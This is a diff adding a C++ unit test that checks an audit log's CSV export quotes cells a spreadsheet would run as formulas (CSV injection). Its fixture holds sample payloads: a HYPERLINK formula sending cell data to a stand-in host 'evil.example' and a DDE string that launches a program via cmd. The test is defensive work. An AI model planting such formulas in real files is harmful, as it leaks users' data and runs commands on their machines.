@@ -282,6 +282,37 @@ TEST_SUITE("audit/audit_reader") {
           std::string::npos);
   }
 
+  TEST_CASE("CSV export turns cells a spreadsheet would run as formulas into quoted text (OWASP CSV injection)") {
+    TempDir dir;
+    const std::string path = dir.file("audit.db");
+    FixedClock clock(kTestNowMs);
+    const std::vector<std::string> details = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
+                                              "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"};
+    {
+      auto log = SqliteAuditLog::open(path, clock);
+      REQUIRE(log.has_value());
+      for (std::size_t i = 0; i < details.size(); ++i) {
+        REQUIRE(append_one(**log, make_event("r" + std::to_string(i), "finished", {{"target", "cart"}}, details[i])));
+      }
+      REQUIRE(append_one(**log, make_event("r9", "finished", {{"target", "cart"}}, "restarted 2 pods")));
+    }
+    std::ostringstream out;
+    REQUIRE(audit::export_csv(path, out).has_value());
+    const std::string csv = out.str();
+    INFO(csv);
+    CHECK(csv.find(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",") != std::string::npos);
+    CHECK(csv.find(",\"'+1+cmd|' /C calc'!A0\",") != std::string::npos);
+    CHECK(csv.find(",\"'-2+3\",") != std::string::npos);
+    CHECK(csv.find(",\"'@SUM(1+1)\",") != std::string::npos);
+    CHECK(csv.find(",\"'\t=1+1\",") != std::string::npos);
+    CHECK(csv.find(",\"'\r=1+1\",") != std::string::npos);
+    CHECK(csv.find(",restarted 2 pods,") != std::string::npos);
+    // No cell starts with a formula character.
+    for (const char* bad : {",=", ",+", ",-", ",@", ",\t", ",\r="}) {
+      CHECK(csv.find(bad) == std::string::npos);
+    }
+  }
+
   TEST_CASE("JSONL export writes one parseable object per event, even from invalid UTF-8") {
     TempDir dir;
     const std::string path = dir.file("audit.db");
